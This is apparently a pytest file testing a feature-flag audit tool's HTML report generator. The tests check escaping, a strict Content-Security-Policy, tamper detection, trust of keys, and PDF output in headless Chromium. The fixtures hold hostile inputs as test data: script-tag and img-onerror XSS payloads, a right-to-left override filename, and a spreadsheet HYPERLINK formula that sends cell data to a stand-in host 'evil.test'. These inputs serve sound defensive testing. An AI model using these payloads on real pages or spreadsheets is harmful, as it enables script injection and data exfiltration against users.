"""Issue 8 §5: `flagtrail report`, one self-contained HTML page an auditor reads, checked
in a real headless chromium (Debian's), which deploy/local/chromium installs."""

from __future__ import annotations

import re
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from flagtrail import settings
from producers import FlagChange, Outbox, PolicyError
from producers.identity import SAMPLE_DIRECTORY
from relay.export import PackagePaths, export_window
from relay.logs import open_log
from relay.outbox import open_outbox_source
from relay.relay import Relay
from relay.report import chromium_command
from tests.conftest import REPO, run_cli

SCRIPT = '<script>alert("owned")</script>'
IMG = '<img src="http://evil.test/x.png" onerror="alert(2)">'
RTL = "fix\u202egnp.exe"  # a right-to-left override: shown reversed unless made visible
HOSTILE = '=HYPERLINK("http://evil.test/?d="&A1,"open")'


# -- the browser ---------------------------------------------------------------------------------
@pytest.fixture(scope="session")
def chromium() -> str:
    """Debian's chromium, installed by deploy/local/chromium when missing (as root);
    skipped only when it cannot be installed, with the script's reason."""
    result = subprocess.run(
        ["bash", str(REPO / "deploy/local/chromium")], capture_output=True, text=True, timeout=1800
    )
    if result.returncode != 0:
        pytest.skip(f"chromium unavailable: {result.stderr.strip() or 'install failed'}")
    return result.stdout.strip().splitlines()[-1]


def browse(browser: str, page: Path, *args: str) -> subprocess.CompletedProcess[str]:
    with tempfile.TemporaryDirectory(prefix="flagtrail-test-chromium-") as profile:
        return subprocess.run(
            chromium_command(browser, Path(profile), *args, page.resolve().as_uri()),
            capture_output=True,
            text=True,
            timeout=180,
        )


def screenshot(browser: str, page: Path, out: Path) -> Path:
    result = browse(browser, page, f"--screenshot={out}", "--window-size=1280,1600")
    assert out.is_file(), result.stderr
    return out


def dom_text(browser: str, page: Path) -> str:
    result = browse(browser, page, "--dump-dom")
    assert result.returncode == 0, result.stderr
    return result.stdout


def colour_counts(image: Any) -> dict[tuple[int, int, int], int]:
    """How many pixels of each colour a screenshot has."""
    return {colour: n for n, colour in image.convert("RGB").getcolors(1 << 24)}


# -- a package written through the real producer path, with an attacker's values ----------------
@dataclass(frozen=True)
class Package:
    jsonl: Path
    public_key: Path
    other_key: Path


IDENTITIES = (
    SAMPLE_DIRECTORY + f'\n[identities."{HOSTILE.replace(chr(34), chr(92) + chr(34))}"]\n'
    'roles = ["release-manager"]\n'
)


def change(**fields: object) -> FlagChange:
    base: dict[str, object] = {
        "actor": "alice@example.com",
        "approver": "bob@example.com",
        "role": "release-manager",
        "flag_key": "checkout-v2",
        "environment": "production",
        "action": "update",
        "reason": "rollout",
        "change_ref": "CHG-1",
    }
    return FlagChange(**(base | fields))  # type: ignore[arg-type]


@pytest.fixture(scope="module")
def package(
    tmp_path_factory: pytest.TempPathFactory, rsa_keys: Path, ec_keys: Path
) -> Iterator[Package]:
    folder = tmp_path_factory.mktemp("report")
    (folder / "identities.toml").write_text(IDENTITIES)
    engine = settings.make_engine(f"sqlite:///{folder / 'outbox.db'}")
    # a chain that stores names (one made before pseudonyms, or FLAGTRAIL_PSEUDONYMS=off):
    # the page must escape whatever people typed, names included
    with pytest.MonkeyPatch.context() as env:
        env.setenv("FLAGTRAIL_PSEUDONYMS", "off")
        outbox = Outbox(engine, str(folder / "identities.toml"))
    changes = [
        change(action="create", before=None, after={"enabled": False}, reason=SCRIPT),
        change(flag_key=IMG, before=None, after=True, change_ref="CHG-2"),
        # blocked: self-approval (CC8.1); its reason tries to break out of the table
        change(
            approver="alice@example.com", reason=f"</td></tr></table>{SCRIPT}", change_ref="CHG-3"
        ),
        change(
            actor=HOSTILE,
            reason=RTL,
            before={"enabled": False},
            after={"enabled": True},
            change_ref="CHG-4",
        ),
        # someone changed the flag outside flagtrail: this before is not the last after
        change(
            before={"enabled": False}, after={"enabled": True, "rollout": 50}, change_ref="CHG-5"
        ),
        change(
            environment="staging",
            role="engineer",
            actor="carol@example.com",
            approver=None,
            before=None,
            after={"enabled": True},
            change_ref="CHG-6",
        ),
    ]
    for item in changes:
        try:
            with engine.begin() as conn:
                outbox.record(conn, item)
        except PolicyError:
            pass
    log_url = f"sqlite:///{folder / 'log.db'}"
    relay = Relay(open_outbox_source(engine, outbox.chain_id), open_log(log_url))
    relay.resume()
    relay.drain()
    today = datetime.now(UTC).date()
    with open_log(log_url) as audit_log:
        paths, manifest = export_window(
            audit_log, today, today, folder / "out", rsa_keys / "audit-private.pem"
        )
    assert manifest["record_count"] == 6
    yield Package(paths.jsonl, rsa_keys / "audit-public.pem", ec_keys / "audit-public.pem")
    engine.dispose()


def copy_package(package: Package, folder: Path) -> Path:
    shutil.copytree(package.jsonl.parent, folder / "pkg")
    return folder / "pkg" / package.jsonl.name


def report(jsonl: Path, out: Path, *args: str, **kwargs: object) -> subprocess.CompletedProcess:
    return run_cli("report", str(jsonl), "--out", str(out), *args, **kwargs)  # type: ignore[arg-type]


# -- the page itself -------------------------------------------------------------------------------
def test_every_value_is_escaped_and_the_page_fetches_nothing(
    package: Package, tmp_path: Path
) -> None:
    out = tmp_path / "r.html"
    result = report(package.jsonl, out, "--pubkey", str(package.public_key))
    assert result.returncode == 0, result.stderr
    page = out.read_text()
    assert "<script" not in page.lower() and "<img" not in page.lower()
    assert "&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt;" in page
    assert "&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;" in page
    assert "\u202e" not in page and "fix\\u202egnp.exe" in page  # the override is shown
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    assert csp and "default-src 'none'" in csp.group(1) and "script-src 'none'" in csp.group(1)
    # nothing to fetch: no tag has a source or link, the only URL in a tag is SVG's
    # namespace name, and the style imports nothing (every < of a value is escaped)
    tags = re.findall(r"<[a-zA-Z][^>]*>", page)
    assert not [t for t in tags if re.search(r"\b(src|href|action|data)=", t)]
    urls = {u for t in tags for u in re.findall(r"https?://[^\s\"'<>]+", t)}
    assert urls == {"http://www.w3.org/2000/svg"}
    style = re.search(r"<style>(.*?)</style>", page, re.DOTALL)
    assert style and "url(" not in style.group(1) and "@import" not in style.group(1)


def test_controls_count_changes_and_blocked_attempts_apart(
    package: Package, tmp_path: Path
) -> None:
    out = tmp_path / "r.html"
    assert report(package.jsonl, out, "--pubkey", str(package.public_key)).returncode == 0
    page = out.read_text()
    # four production changes and one staging change; one blocked attempt; the summary
    # (and the manifest) would count CC8.1 as 5: both kinds together
    assert "<tr><td>CC8.1</td><td>4</td><td>1</td><td>0</td><td>5</td></tr>" in page
    assert "<tr><td>CC6.1</td><td>5</td><td>1</td><td>0</td><td>6</td></tr>" in page
    assert "Production changes (4)" in page and "Blocked attempts (1)" in page
    assert "SOC2 CC8.1: production flag change requires a distinct approver" in page
    assert "State continuity (1 break(s))" in page
    assert "1 state continuity break(s): see State continuity" in page  # in the status too


def test_a_tampered_package_is_reported_in_red_and_exits_1(
    package: Package, tmp_path: Path
) -> None:
    jsonl = copy_package(package, tmp_path)
    jsonl.write_bytes(jsonl.read_bytes().replace(b'"CHG-5"', b'"CHG-9"'))
    out = tmp_path / "r.html"
    result = report(jsonl, out, "--pubkey", str(package.public_key))
    assert result.returncode == 1
    assert "VERIFICATION FAILED" in result.stdout and "Traceback" not in result.stderr
    page = out.read_text()
    assert 'class="banner fail"' in page and "VERIFICATION FAILED" in page
    assert "VERIFIED: chain intact" not in page


@pytest.mark.parametrize("trust", ["none", "other key"])
def test_a_key_the_auditor_did_not_name_is_not_trusted(
    package: Package, tmp_path: Path, trust: str
) -> None:
    out = tmp_path / "r.html"
    args = ["--pubkey", str(package.other_key)] if trust == "other key" else []
    assert report(package.jsonl, out, *args).returncode == 4
    page = out.read_text()
    assert 'class="banner fail"' in page and "NOT TRUSTED" in page


def test_a_missing_manifest_still_gets_a_report_that_says_so(
    package: Package, tmp_path: Path
) -> None:
    jsonl = copy_package(package, tmp_path)
    PackagePaths.beside(jsonl).manifest.unlink()
    out = tmp_path / "r.html"
    result = report(jsonl, out, "--pubkey", str(package.public_key))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    page = out.read_text()
    assert "VERIFICATION FAILED" in page and "manifest" in page


def test_an_unreadable_line_is_reported_not_a_traceback(package: Package, tmp_path: Path) -> None:
    jsonl = copy_package(package, tmp_path)
    jsonl.write_bytes(jsonl.read_bytes() + b"{not json\n")
    out = tmp_path / "r.html"
    result = report(jsonl, out, "--pubkey", str(package.public_key))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "Records unreadable" in out.read_text()


def test_pdf_without_chromium_says_so_and_keeps_the_html(package: Package, tmp_path: Path) -> None:
    empty = tmp_path / "bin"
    empty.mkdir()
    out, pdf = tmp_path / "r.html", tmp_path / "r.pdf"
    result = report(
        package.jsonl,
        out,
        "--pubkey",
        str(package.public_key),
        "--pdf",
        str(pdf),
        env={"PATH": str(empty)},
    )
    assert result.returncode == 2
    assert len(result.stderr.strip().splitlines()) == 1 and "chromium" in result.stderr
    assert out.is_file() and not pdf.exists()


# -- in a real browser ----------------------------------------------------------------------------
def test_the_auditor_sees_the_answer_in_chromium(
    package: Package, tmp_path: Path, chromium: str
) -> None:
    from PIL import Image

    out = tmp_path / "r.html"
    assert report(package.jsonl, out, "--pubkey", str(package.public_key)).returncode == 0
    dom = dom_text(chromium, out)
    assert "<script" not in dom.lower() and "<img" not in dom.lower()  # no element was injected
    assert '&lt;script&gt;alert("owned")&lt;/script&gt;' in dom  # the reason, as text
    for must in (
        "VERIFIED: chain intact, 6 records, signed by a trusted key; 1 finding(s) below",
        "SOC2 CC8.1: production flag change requires a distinct approver",
        "CHG-5",
        "alice@example.com",
        "bob@example.com",
        "State continuity (1 break(s))",
        '{"enabled":true,"rollout":50}',
    ):
        assert must in dom, must
    with Image.open(screenshot(chromium, out, tmp_path / "ok.png")) as image:
        assert image.size == (1280, 1600)
        colours = colour_counts(image)
        assert len(colours) > 50  # text, tables and charts, not a blank page
        assert colours.get((0xC6, 0xF6, 0xD5), 0) > 20_000  # the green status banner
        assert (0xFE, 0xD7, 0xD7) not in colours


def test_a_failed_verification_is_red_in_chromium(
    package: Package, tmp_path: Path, chromium: str
) -> None:
    from PIL import Image

    jsonl = copy_package(package, tmp_path)
    jsonl.write_bytes(jsonl.read_bytes().replace(b'"CHG-5"', b'"CHG-9"'))
    out = tmp_path / "r.html"
    assert report(jsonl, out, "--pubkey", str(package.public_key)).returncode == 1
    assert "VERIFICATION FAILED" in dom_text(chromium, out)
    with Image.open(screenshot(chromium, out, tmp_path / "fail.png")) as image:
        colours = colour_counts(image.crop((0, 0, 1280, 400)))
        assert colours.get((0xFE, 0xD7, 0xD7), 0) > 20_000  # the red banner, at the top
        assert (0xC6, 0xF6, 0xD5) not in colours


def test_the_pdf_prints_through_chromium(package: Package, tmp_path: Path, chromium: str) -> None:
    out, pdf = tmp_path / "r.html", tmp_path / "r.pdf"
    result = report(package.jsonl, out, "--pubkey", str(package.public_key), "--pdf", str(pdf))
    assert result.returncode == 0, result.stderr
    data = pdf.read_bytes()
    assert data.startswith(b"%PDF-") and len(data) > 10_000
    assert re.search(rb"/Type\s*/Page\b", data)  # at least one page was printed


def test_trusted_keys_from_the_environment_are_honoured(package: Package, tmp_path: Path) -> None:
    from relay.signing import fingerprint, load_public_key

    trusted = tmp_path / "trusted.txt"
    trusted.write_text(f"{fingerprint(load_public_key(package.public_key))} registered key\n")
    out = tmp_path / "r.html"
    result = report(package.jsonl, out, env={"FLAGTRAIL_TRUSTED_KEYS": str(trusted)})
    assert result.returncode == 0, result.stderr
    assert "FLAGTRAIL_TRUSTED_KEYS=" in out.read_text()


def test_a_rewritten_manifest_with_odd_types_is_shown_as_unverified(
    package: Package, tmp_path: Path
) -> None:
    import json

    from relay.manifest import manifest_bytes

    jsonl = copy_package(package, tmp_path)
    manifest_path = PackagePaths.beside(jsonl).manifest
    manifest = json.loads(manifest_path.read_bytes())
    manifest["rotations"] = "<b>rotated</b>"
    manifest["documented_gaps"] = 5
    manifest["undocumented_gaps"] = [{"kind": SCRIPT, "start": 1, "end": None}, "x"]
    manifest["gap_statements"] = [{"details": ["not", "an", "object"]}]
    manifest_path.write_bytes(manifest_bytes(manifest))  # canonical, but not signed so
    out = tmp_path / "r.html"
    result = report(jsonl, out, "--pubkey", str(package.public_key))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    page = out.read_text()
    assert "UNVERIFIED" in page and 'class="banner fail"' in page
    assert "<script" not in page.lower() and "&lt;script&gt;" in page


def test_files_swapped_while_verify_runs_are_not_vouched_for(
    package: Package, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import relay.report
    from relay.trust import Trust

    jsonl = copy_package(package, tmp_path)
    real_verify = relay.report.verify_export

    def verify_then_swap(*args: Any, **kwargs: Any) -> Any:
        outcome = real_verify(*args, **kwargs)  # the real verifier, on the real package
        jsonl.write_bytes(jsonl.read_bytes().replace(b'"CHG-5"', b'"CHG-9"'))  # the attacker
        return outcome

    monkeypatch.setattr(relay.report, "verify_export", verify_then_swap)
    built = relay.report.build_report(jsonl, Trust.load([package.public_key]))
    assert not built.verified and built.exit_code == 1
    assert "changed while it was being verified" in str(built.verify_error)


def test_gaps_rotations_and_statements_are_shown_with_the_charts(
    workdir: Path, rsa_keys: Path
) -> None:
    """Weeks of records with a relay outage (documented by a signed statement), a late run
    nobody documented, and a signed operator rotation, written to a real SQLite log."""
    from datetime import date, timedelta

    from producers.events import format_timestamp
    from tests.test_evidence_package import ROTATION_FIELDS, ChainWriter, signed

    chain = ChainWriter(workdir)
    for week in range(3):
        for _ in range(week + 2):
            chain.add()
        chain.now += timedelta(days=7)
    outage_from = chain.now
    for _ in range(3):  # recorded, then sealed 40 minutes later: the relay was down
        chain.add(relayed_at=format_timestamp(outage_from + timedelta(minutes=40)))
    statement = {
        "from": format_timestamp(outage_from),
        "to": format_timestamp(outage_from + timedelta(hours=1)),
        "reason": "relay host rebooted for a kernel patch",
        "author": "bob@example.com",
        "stated_at": format_timestamp(outage_from + timedelta(hours=2)),
        "chain_id": "flag-audit",
    }
    chain.now += timedelta(hours=2)
    chain.add("gap_documented", signed(statement, list(statement), rsa_keys))
    chain.add("sentinel_rotation", signed(chain.rotation_meta(), ROTATION_FIELDS, rsa_keys))
    chain.now += timedelta(days=1)
    late_from = chain.now
    chain.add(relayed_at=format_timestamp(late_from + timedelta(hours=3)))  # never explained
    with open_log(f"sqlite:///{workdir / 'log.db'}") as audit_log:
        paths, manifest = export_window(
            audit_log,
            date(2026, 3, 2),
            date(2026, 3, 31),
            workdir / "out",
            rsa_keys / "audit-private.pem",
        )
    assert len(manifest["undocumented_gaps"]) == 1 and len(manifest["documented_gaps"]) == 2
    out = workdir / "r.html"
    result = report(paths.jsonl, out, "--pubkey", str(rsa_keys / "audit-public.pem"))
    assert result.returncode == 0, result.stderr
    page = out.read_text()
    assert "relay host rebooted for a kernel patch" in page  # the statement
    assert "annual key ceremony" in page  # the rotation
    assert page.count("<td>relay_outage</td>") == 2
    assert "UNDOCUMENTED" in page
    assert "<title>relay_outage" in page  # shaded on the lag chart
    # changes per week: every week from the first to the last, quiet ones included
    weeks = re.findall(r"<title>week of (\S+): (\d+) change</title>", page)
    assert weeks == [
        ("2026-03-02", "2"),
        ("2026-03-09", "3"),
        ("2026-03-16", "4"),
        ("2026-03-23", "4"),
    ]
    assert "1 finding(s) below" in page  # verified, and still something to read


def test_the_report_never_overwrites_the_evidence(package: Package, tmp_path: Path) -> None:
    jsonl = copy_package(package, tmp_path)
    before = jsonl.read_bytes()
    for target in (jsonl, PackagePaths.beside(jsonl).manifest):
        result = report(jsonl, target, "--pubkey", str(package.public_key))
        assert result.returncode == 2 and "a file of the evidence package" in result.stderr
    assert jsonl.read_bytes() == before
